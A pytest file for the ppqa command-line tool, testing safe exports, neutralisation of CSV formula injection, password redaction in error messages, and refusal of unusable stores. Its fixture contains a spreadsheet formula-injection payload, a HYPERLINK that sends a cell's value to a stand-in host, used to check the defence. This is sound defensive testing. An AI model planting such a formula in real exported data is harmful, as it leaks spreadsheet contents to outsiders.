"""Reliability at the command line: exports never clobber what is not a regular file and never
carry a spreadsheet formula, no password is ever printed, stores that are not ppqa's are
refused, a read-only store and an endless input get one line, and a second Ctrl-C quits
without a traceback. One-line refusals of bad input are in test_cli_errors.py."""

from __future__ import annotations

import csv
import json
import os
import signal
import sqlite3
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from ppqa.cli.app import app

REPO = Path(__file__).resolve().parents[1]
SECRET = "S3cretPassw0rd"


def _cli(*args, **kwargs):
    return CliRunner().invoke(app, [str(a) for a in args], **kwargs)


def _env(tmp_path) -> dict:
    return {**os.environ, "PYTHONPATH": str(REPO), "PPQA_HOME": str(tmp_path / "home")}


@pytest.fixture
def store(tmp_path, add_job):
    """A store with one job whose cells are all would-be formulas, answered."""
    from ppqa.store import queue
    from ppqa.store.db import open_db

    path = tmp_path / "store.db"
    db = open_db(path)
    add_job(db, "Doc text.", ["+1 is it?", "Plain question?"], name="@evil")
    claim = queue.claim_jobs(db, "w", 60)[0]
    answers = ['=HYPERLINK("http://x.example/?"&A1,"ok")', "-2 plain"]
    for q, text in zip(claim.questions, answers):
        queue.record_answer(db, q.id, text, 3, "stop")
    queue.finish_job(db, claim.job_id, "w", dict(device="cpu", model="m", mode="stock",
                                                   wall_seconds=1.0, questions=2,
                                                   prompt_tokens=4, answer_tokens=6))
    db.close()
    return path


# ---- item 2: export targets ---------------------------------------------------------------


def test_export_writes_through_a_fifo(store, tmp_path):
    fifo = tmp_path / "out.csv"
    os.mkfifo(fifo)
    got = {}
    reader = threading.Thread(target=lambda: got.setdefault("data", fifo.read_bytes()))
    reader.start()
    result = _cli("--db", store, "export", fifo)
    reader.join(timeout=30)
    assert result.exit_code == 0, result.stderr
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)  # still the FIFO, not a file in its place
    assert got["data"].decode("utf-8-sig").startswith("job,document,question_id")


def test_export_to_a_device_writes_through_it(store):
    before = os.stat("/dev/null")
    result = _cli("--db", store, "export", "/dev/null")
    assert result.exit_code == 0, result.stderr
    after = os.stat("/dev/null")
    assert stat.S_ISCHR(after.st_mode) and after.st_rdev == before.st_rdev


def test_export_to_dev_stdout_in_a_pipe(store, tmp_path):
    out = subprocess.run([sys.executable, "-m", "ppqa", "--db", str(store), "export",
                          "/dev/stdout"], capture_output=True, env=_env(tmp_path), timeout=120)
    assert out.returncode == 0, out.stderr.decode()
    assert out.stdout.decode("utf-8-sig").count("\n") == 3  # header + 2 rows, as CSV
    assert b"Traceback" not in out.stderr


def test_a_failed_export_keeps_the_old_file(store, tmp_path, monkeypatch):
    target = tmp_path / "answers.csv"
    target.write_text("old contents\n")

    def full(*_args, **_kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    result = _cli("--db", store, "export", target)
    assert result.exit_code == 2
    assert result.stderr == (f"error: {target}: cannot write it (No space left on device) "
                             "(the file there is unchanged)\n")
    assert target.read_text() == "old contents\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".answers")] == []


# ---- item 3: formula injection ------------------------------------------------------------


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(store, tmp_path):
    assert _cli("--db", store, "export", tmp_path / "a.csv").exit_code == 0
    with open(tmp_path / "a.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["answer"] == '\'=HYPERLINK("http://x.example/?"&A1,"ok")'
    assert rows[0]["question"] == "'+1 is it?" and rows[0]["document"] == "'@evil"
    assert rows[1]["answer"] == "'-2 plain" and rows[1]["question"] == "Plain question?"
    # JSON and JSONL keep every value exactly.
    assert _cli("--db", store, "export", tmp_path / "a.jsonl").exit_code == 0
    exact = [json.loads(line) for line in (tmp_path / "a.jsonl").read_text().splitlines()]
    assert exact[0]["answer"] == '=HYPERLINK("http://x.example/?"&A1,"ok")'
    assert exact[0]["document"] == "@evil" and exact[1]["answer"] == "-2 plain"


def test_csv_cell_rule():
    from ppqa.files.export import csv_cell

    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text
    assert [csv_cell(v) for v in ("a=b", " =x", 5, None)] == ["a=b", " =x", 5, ""]


# ---- item 5: passwords --------------------------------------------------------------------


@pytest.mark.parametrize("url", [
    f"postgresql+psycopg ://user:{SECRET}@127.0.0.1:5432/db",  # a stray space
    f"postgresql+psycopg://user:{SECRET}@127.0.0.1:notaport/db",
    f"postgresql+psycopg://user:{SECRET}@[::1/db",
    f"postgresql+psycopg://user@127.0.0.1:1/db?password={SECRET}",
    f"postgresql+psycopg:///db?host=127.0.0.1&port=1&password={SECRET}",
    f"postgresql+psycopg://user:{SECRET[:4]}@{SECRET[4:]}@127.0.0.1:1/db",  # an unescaped @
    f"postgresql+psycopg://user:{SECRET}@127.0.0.1:1/db",
])
def test_no_message_shows_a_password(url, tmp_path):
    (tmp_path / "q.txt").write_text("Q?\n")
    for args in (["status"], ["ingest", "-", tmp_path / "q.txt"], ["run", "--device", "cpu"]):
        result = _cli("--db", url, *args, input="doc")
        assert result.exit_code == 2
        lines = result.stderr.splitlines()
        assert len(lines) == 1 and lines[0].startswith("error: cannot open database"), lines
        for part in (SECRET, SECRET[:4] + "@", SECRET[4:]):
            assert part not in result.output, result.output


def test_redact_masks_known_and_shaped_passwords():
    from ppqa.store.db import redact, remember_secrets

    remember_secrets(f"postgresql://u:{SECRET}%40x@h/db")
    text = (f"driver said {SECRET}@x; dsn host=h password={SECRET}: and "
            f"postgresql://v:{SECRET}@h2/db and password = 'a b'")
    masked = redact(text)
    assert SECRET not in masked and "'a b'" not in masked
    assert "host=h password=***: and postgresql://v:***@h2/db" in masked


# ---- items 6 and 10: stores that cannot be used -------------------------------------------


def test_a_read_only_store_gets_one_line(store, tmp_path, add_job):
    from ppqa.store.db import open_db

    db = open_db(store)  # a queued job, so that `run` has work and must write to claim it
    add_job(db, "Another document.", ["Anything?"])
    db.close()
    (tmp_path / "q.txt").write_text("Q?\n")
    read_only = f"sqlite:///file:{store}?mode=ro&uri=true"  # as chmod 444 is for non-root
    ingest = _cli("--db", read_only, "ingest", "-", tmp_path / "q.txt", input="A document.")
    run = _cli("--db", read_only, "run", "--device", "cpu", "--model", "dummy:tiny-mha")
    for result in (ingest, run):
        assert result.exit_code == 2, result.output
        last = result.stderr.splitlines()[-1]
        assert last.startswith("error: cannot write to database ") and "Traceback" not in \
            result.stderr
        assert "attempt to write a readonly database" in last
    assert ingest.stderr.count("\n") == 1


def test_another_programs_sqlite_file_is_left_alone(tmp_path):
    other = tmp_path / "other.db"
    with sqlite3.connect(other) as conn:
        conn.execute("CREATE TABLE bookmarks (url TEXT)")
    before = other.read_bytes()
    result = _cli("--db", other, "status")
    assert result.exit_code == 2
    assert result.stderr.startswith(f"error: {other} is not a ppqa store: it holds another "
                                    "program's tables (bookmarks)")
    assert other.read_bytes() == before and not Path(f"{other}-wal").exists()
    with sqlite3.connect(other) as conn:
        assert conn.execute("PRAGMA journal_mode").fetchone() == ("delete",)


def test_a_mistyped_path_creates_nothing(tmp_path):
    typo = tmp_path / "no" / "such" / "store.db"
    for command in ("status", "jobs", "export"):
        result = _cli("--db", typo, command, *(["-"] if command == "export" else []))
        assert result.exit_code == 2 and "there is no store there" in result.stderr
    assert not (tmp_path / "no").exists()


@pytest.mark.parametrize("url", ["sqlite:///:memory:", "sqlite://",
                                 "sqlite:///file::memory:?uri=true"])
def test_an_in_memory_store_is_refused(url, tmp_path):
    (tmp_path / "q.txt").write_text("Q?\n")
    result = _cli("--db", url, "ingest", "-", tmp_path / "q.txt", input="A document.")
    assert result.exit_code == 2
    assert "in-memory SQLite database" in result.stderr and result.stdout == ""


# ---- items 8 and 11 as processes -----------------------------------------------------------


def test_an_endless_document_stream_is_refused(tmp_path):
    (tmp_path / "q.txt").write_text("Q?\n")
    endless = subprocess.Popen(["yes", "more text"], stdout=subprocess.PIPE)
    try:
        out = subprocess.run([sys.executable, "-m", "ppqa", "--db", str(tmp_path / "s.db"),
                              "ingest", "-", "q.txt", "--max-input-mb", "1"],
                             stdin=endless.stdout, capture_output=True, text=True,
                             env=_env(tmp_path), cwd=tmp_path, timeout=120)
    finally:
        endless.kill()
        endless.wait()
    assert out.returncode == 2
    assert out.stderr == ("error: <stdin>: the document is longer than the limit of 1 MiB "
                          "(raise it with --max-input-mb)\n")


def test_repeated_ctrl_c_quits_without_a_traceback(tmp_path):
    db_path = tmp_path / "s.db"
    (tmp_path / "q.txt").write_text("".join(f"Question {i}?\n" for i in range(24)))
    (tmp_path / "d.txt").write_text("A document about ferries and piers.\n")
    env = {**_env(tmp_path), "PPQA_DB": str(db_path)}
    ingest = subprocess.run([sys.executable, "-m", "ppqa", "ingest", "d.txt", "q.txt",
                             "--max-new-tokens", "2000"], env=env, cwd=tmp_path, timeout=120)
    assert ingest.returncode == 0
    worker = subprocess.Popen([sys.executable, "-m", "ppqa", "run", "--device", "cpu",
                               "--model", "dummy:tiny-mha"], env=env, cwd=tmp_path,
                              stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    line = ""
    while "claimed" not in line:  # the model is answering
        line = worker.stderr.readline()
        assert line and time.monotonic() < deadline, "the worker exited before claiming"
    # Ctrl-C again and again, so that some arrives in every phase of the stop and the exit.
    while worker.poll() is None and time.monotonic() < deadline:
        worker.send_signal(signal.SIGINT)
        time.sleep(0.01)
    rest = worker.stderr.read()
    # 130, or killed by the SIGINT itself once Python has begun to exit: an interrupt either way.
    assert worker.wait(timeout=60) in (130, -signal.SIGINT)
    assert "Traceback" not in rest and "KeyboardInterrupt" not in rest, rest


@pytest.mark.postgres
def test_a_postgres_database_of_another_program_is_left_alone(pg_url):
    from sqlalchemy import create_engine, inspect, text

    engine = create_engine(pg_url)
    with engine.begin() as conn:
        conn.execute(text("CREATE TABLE invoices (id INTEGER)"))
    result = _cli("--db", pg_url, "status")
    assert result.exit_code == 2 and "is not a ppqa store" in result.stderr
    assert "(invoices)" in result.stderr
    with engine.connect() as conn:
        assert inspect(conn).get_table_names() == ["invoices"]
    engine.dispose()
